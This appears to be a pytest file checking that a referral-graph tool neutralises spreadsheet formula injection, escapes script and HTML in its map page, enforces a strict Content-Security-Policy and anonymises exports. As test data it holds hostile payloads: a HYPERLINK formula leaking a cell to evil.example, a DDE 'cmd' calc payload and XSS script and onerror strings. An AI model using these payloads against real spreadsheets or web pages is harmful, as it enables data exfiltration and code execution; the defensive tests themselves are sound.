"""What SECURITY.md promises, end to end on the command line (issue 6 items 3 and 6).

A hostile source (formulas, HTML and script in every text field, e-mails, URLs, phone
numbers) goes through ``referralgraph export`` and ``referralgraph map`` as a student
would run them: spreadsheet cells cannot run as formulas unless --no-neutralize, the
map is one self-contained file under a strict Content-Security-Policy with no outside
resource and no unescaped markup, anonymised outputs hold none of the private strings,
and nothing is written anywhere but the paths given.
"""

from __future__ import annotations

import html
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest

import referralgraph as rg

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "</script><script>window.__xss=1</script>"
IMG = '<img src=x onerror="window.__xss=1">'
PRIVATE = [
    "Zelda Quartermain",
    "zelda@private.example",
    "https://www.linkedin.com/in/zeldaq",
    "+1 415 555 0199",
    "call her mum",
    "Yusuf Okonkwo-Privé",
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    contacts = pd.DataFrame(
        {
            "id": ["me", "zelda-q", "yusuf-o", "x1"],
            "name": ["Maya", PRIVATE[0], PRIVATE[5], SCRIPT],
            "organization": ["Acme", IMG, "Beta", "@SUM(1+1)"],
            "email": ["", PRIVATE[1], "", ""],
            "linkedin": ["", PRIVATE[2], "", ""],
            "notes": ["", f"{PRIVATE[4]}, {PRIVATE[3]}", FORMULA, "-2+3"],
            "is_seeker": ["yes", "", "", ""],
        }
    )
    intros = pd.DataFrame(
        {
            "introducer": ["me", "zelda-q", "zelda-q"],
            "introduced": ["zelda-q", "yusuf-o", "x1"],
            "date": ["2026-01-10", "2026-02-01", "2026-02-03"],
            "notes": ["", IMG, "+cmd|' /C calc'!A0"],
        }
    )
    folder = tmp_path_factory.mktemp("hostile") / "src"
    rg.save(rg.from_frames(contacts, intros), folder)
    return folder


@pytest.fixture(scope="module")
def run(run):
    """The shared ``run`` of tests/conftest.py, asserting that the command succeeds."""

    def succeed(*args):
        result = run(*args)
        assert result.exit_code == 0, result.output
        return result

    return succeed


def all_text(path: Path) -> str:
    """Every byte of a file or folder as text (workbooks unzipped)."""
    files = [path] if path.is_file() else sorted(p for p in path.rglob("*") if p.is_file())
    out = []
    for f in files:
        if zipfile.is_zipfile(f):
            with zipfile.ZipFile(f) as z:
                out += [z.read(n).decode("utf-8", "replace") for n in z.namelist()]
        else:
            out.append(f.read_bytes().decode("utf-8-sig", "replace"))
    return "\n".join(out)


class TestFormulas:
    def test_csv_cells_are_neutralised(self, hostile, tmp_path, run):
        run("export", hostile, tmp_path / "out")
        text = (tmp_path / "out" / "contacts.csv").read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text and "'-2+3" in text
        assert not re.search(r'(^|,)"?[=+\-@]', text, re.MULTILINE)  # no cell starts with a trigger
        assert "'+cmd|" in (tmp_path / "out" / "introductions.csv").read_text(encoding="utf-8-sig")
        assert rg.load(tmp_path / "out").equals(rg.load(hostile))  # and it reads back exactly

    def test_no_neutralize_writes_them_as_they_are(self, hostile, tmp_path, run):
        run("export", hostile, tmp_path / "raw", "--no-neutralize")
        text = (tmp_path / "raw" / "contacts.csv").read_text(encoding="utf-8-sig")
        assert '"=HYPERLINK(' in text and "'=HYPERLINK(" not in text

    @pytest.mark.parametrize("neutralize", [True, False])
    def test_workbook_cells_are_text_never_formulas(self, hostile, tmp_path, neutralize, run):
        import openpyxl

        run("export", hostile, tmp_path / "x.xlsx", *([] if neutralize else ["--no-neutralize"]))
        book = openpyxl.load_workbook(tmp_path / "x.xlsx")
        types = {c.data_type for ws in book for row in ws.iter_rows() for c in row if c.value is not None}
        assert "f" not in types  # no formula cell at all


class TestMap:
    @pytest.fixture(scope="class")
    @classmethod
    def page(cls, hostile, tmp_path_factory, run):
        out = tmp_path_factory.mktemp("map")
        run("map", hostile, "-o", out / "map.html", "--title", SCRIPT + IMG)
        assert sorted(p.name for p in out.iterdir()) == ["map.html"]  # one file, no lib/ folder
        return (out / "map.html").read_text(encoding="utf-8")

    def test_strict_content_security_policy(self, page):
        csp = html.unescape(re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page).group(1))
        assert "default-src 'none'" in csp
        assert "connect-src" not in csp or "connect-src 'none'" in csp
        assert not re.search(r"https?:", csp)

    def test_no_outside_resource(self, page):
        assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", page, re.IGNORECASE)
        assert "@import" not in page and not re.search(r"url\(\s*['\"]?https?:", page)

    def test_markup_in_the_data_is_never_markup_in_the_page(self, page):
        assert SCRIPT not in page and IMG not in page
        assert page.count("<script") == page.count("</script>")  # no script closed or opened by the data
        assert not re.search(r"<img|<iframe|\sonerror\s*=\s*[\"']", page, re.IGNORECASE)  # only escaped text

    def test_anonymized_map_holds_no_private_string(self, hostile, tmp_path, run):
        run("map", hostile, "-o", tmp_path / "anon.html", "--anonymize")
        text = (tmp_path / "anon.html").read_text(encoding="utf-8")
        for s in PRIVATE + ["zelda-q", "yusuf-o", "Maya"]:
            assert s not in text and html.escape(s) not in text, s


class TestAnonymizedExports:
    @pytest.mark.parametrize("name", ["csv-folder", "x.xlsx", "x.json", "x.graphml", "x.gexf"])
    def test_no_private_string_anywhere(self, hostile, tmp_path, name, run):
        out = tmp_path / name
        run("export", hostile, out, "--anonymize")
        text = all_text(out)
        for s in PRIVATE + [FORMULA, "Maya"]:
            assert s not in text and html.escape(s) not in text, s
        assert "person-" in text and "seeker-" in text

    def test_salt_gives_stable_pseudonyms_default_does_not(self, hostile, tmp_path, run):
        for k in range(2):
            run("export", hostile, tmp_path / f"s{k}.json", "--anonymize", "--salt", "secret")
            run("export", hostile, tmp_path / f"r{k}.json", "--anonymize")
        assert (tmp_path / "s0.json").read_bytes() == (tmp_path / "s1.json").read_bytes()
        assert (tmp_path / "r0.json").read_bytes() != (tmp_path / "r1.json").read_bytes()


def test_writes_only_the_paths_given(hostile, tmp_path, monkeypatch, run):
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    monkeypatch.chdir(cwd)
    run("map", hostile, "-o", out / "m.html")
    run("plot", hostile, "--kind", "tree", "-o", out / "t.svg")
    run("export", hostile, out / "x.gexf")
    run("metrics", hostile, "--summary", out / "s.csv")
    assert list(cwd.iterdir()) == []
    assert sorted(p.name for p in out.iterdir()) == ["m.html", "s.csv", "t.svg", "x.gexf"]
